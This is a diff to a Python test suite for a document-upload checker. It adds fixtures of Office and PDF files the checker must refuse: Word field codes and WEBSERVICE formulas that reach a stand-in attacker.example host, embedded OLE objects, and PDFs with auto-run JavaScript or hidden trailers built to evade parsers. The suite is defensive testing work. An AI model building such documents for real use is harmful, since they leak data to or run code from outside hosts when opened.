@@ -383,6 +383,19 @@ def slide(action: str) -> bytes:
                     "</p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>"})
 
 
+def relationships(*items: str) -> str:
+    return ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            + "".join(f"<Relationship {item}/>" for item in items) + "</Relationships>")
+
+
+def with_part(document: bytes, name: str, data: bytes) -> bytes:
+    """`document` with one more part, as it is (a picture, an object, a document)."""
+    out = io.BytesIO(document)
+    with zipfile.ZipFile(out, "a") as z:
+        z.writestr(name, data)
+    return out.getvalue()
+
+
 def cell(formula: str) -> str:
     """An OpenDocument spreadsheet's body with one cell of `formula`."""
     return ('<office:body><office:spreadsheet><table:table table:name="S"><table:table-row><table:table-cell '
@@ -431,6 +444,25 @@ OFFICE_ACTIVE = [
     ("program.pptx", slide("ppaction://program"), "has an action `ppaction://program` that runs a program"),
     ("path.xlsx", sheet("'\\\\attacker.example\\s\\[book.xlsx]Sheet1'!A1"),
      "reads a cell of another file when it is opened (an external reference)"),
+    # Seventh attacker: parts found by content type whatever their names, and
+    # more of Word's ways to fetch or run.
+    ("dat.docx", word("word/document.dat", field(' INCLUDEPICTURE "\\\\\\\\attacker.example\\\\s\\\\a.png" ')),
+     f"has a field code INCLUDEPICTURE {FETCHES} (in `word/document.dat`)"),
+    ("dat.xlsx", sheet('WEBSERVICE("https://attacker.example/b")', "xl/worksheets/sheet1.dat"),
+     "uses WEBSERVICE, which reaches another computer (cell B2 of `xl/worksheets/sheet1.dat`"),
+    ("database.docx", word("word/document.xml", simple(' DATABASE \\d "\\\\attacker.example\\s\\d.xlsx" ')),
+     "has a field code DATABASE that reads a database or another file"),
+    ("altchunk.docx", package({"word/_rels/document.xml.rels": relationships(
+        'Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" '
+        'Target="chunk.rtf"')}), "has content imported from another format (altChunk) (`chunk.rtf`)"),
+    ("ole.docx", with_part(word("word/document.xml", field(" PAGE ")), "word/embeddings/x.dat",
+                           b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)),
+     "holds an embedded object (`word/embeddings/x.dat`, OLE)"),
+    ("inner.docx", with_part(word("word/document.xml", field(" PAGE ")), "word/embeddings/Book1.xlsx",
+                             sheet('WEBSERVICE("https://attacker.example/c")')),
+     "holds a document (`word/embeddings/Book1.xlsx`) that has a formula that uses WEBSERVICE"),
+    ("ole.odt", odt('<office:body><office:text><text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/>'
+                    "</draw:frame></text:p></office:text></office:body>"), "holds an embedded object (`draw:object-ole`)"),
     # OpenDocument's formulas, linked pictures and sections (sixth attacker).
     ("webservice.ods", odt(cell('of:=COM.MICROSOFT.WEBSERVICE("https://attacker.example/b")')),
      'has a formula that uses WEBSERVICE, which reaches another computer (in `table:table-cell`: '
@@ -456,6 +488,8 @@ GOOD_ACTIVE = {
                         + field(" HYPERLINK \\l ", '"_Toc1" ') + simple(" MERGEFIELD Name ")),
     "sums.xlsx": sheet('IF(SUM(A1:A3)&gt;0,"Call (0131) 623 4300 | ask","")&amp;HYPERLINK("https://www.gov.scot/","web")'),
     "next.pptx": slide("ppaction://hlinkshowjump?jump=nextslide"),
+    "chart.docx": with_part(word("word/document.xml", field(" PAGE ")), "word/embeddings/Book1.xlsx",
+                            sheet("SUM(A1:A3)")),
     "sums.ods": odt(cell('of:=IF(SUM([.A1:.A3])>0;"Call | ask";"")&HYPERLINK("https://www.gov.scot/";"web")')),
 }
 
@@ -535,3 +569,48 @@ def test_the_converter_refuses_images_past_the_budget(monkeypatch, tmp_path):
     assert [block["t"] for block in converter.blocks(html)] == ["img", "img", "img"]
     with pytest.raises(pdf.PdfError, match="more than 1,600 pixels between them"):
         pdf.Converter("https://example.org/x/", lambda src: tmp_path / src).blocks(html + '<p><img src="2.png" alt="d"></p>')
+
+
+# --- PDFs read as every reader reads them (seventh attacker) --------------------
+
+def raw_pdf(objects: list[bytes], trailer: bytes, hidden_trailer: bytes = b"") -> bytes:
+    """A PDF of `objects` (numbered from 1) with its own index and `trailer`;
+    `hidden_trailer` sits before the index, where only a reader that
+    searches the file finds it."""
+    pdf, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
+    for number, body in enumerate(objects, 1):
+        offsets.append(len(pdf))
+        pdf += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    pdf += hidden_trailer
+    xref = len(pdf)
+    pdf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets)
+    return bytes(pdf + b"trailer\n" + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % xref)
+
+
+PAGES = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]
+SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
+
+
+@pytest.mark.parametrize("data, says", [
+    # The last trailer names no catalogue: readers search for the one with a script.
+    (raw_pdf([PAGES[0].replace(b">>", b"/OpenAction 4 0 R >>"), *PAGES[1:], SCRIPT], b"<< /Size 5 >>",
+             b"trailer\n<< /Size 5 /Root 1 0 R >>\n"), "has no catalogue where its last trailer should name one"),
+    # A script that no object points to, in the index all the same.
+    (raw_pdf([*PAGES, SCRIPT], b"<< /Size 5 /Root 1 0 R >>"), "holds JavaScript"),
+    # A file attachment annotation: /EmbeddedFile is a /Type there, and /EF a key.
+    (raw_pdf([*PAGES[:2], PAGES[2].replace(b">>", b"/Annots [4 0 R] >>"),
+              b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>",
+              b"<< /Type /Filespec /F (a.html) >>"], b"<< /Size 6 /Root 1 0 R >>"), "holds FileAttachment"),
+    (raw_pdf([*PAGES, b"<< /Type /Filespec /F (a.html) /EF << /F 5 0 R >> >>", b"<< /Type /EmbeddedFile >>"],
+             b"<< /Size 6 /Root 1 0 R >>"), "holds "),
+])
+def test_a_pdf_is_read_whole_not_only_from_its_trailer(data, says):
+    from resource_library.files import pdf_problem
+    refused = pdf_problem(data)
+    assert refused and says in refused, refused
+
+
+def test_a_plain_pdf_built_the_same_way_passes():
+    from resource_library.files import pdf_problem
+    assert pdf_problem(raw_pdf(PAGES, b"<< /Size 4 /Root 1 0 R >>")) is None
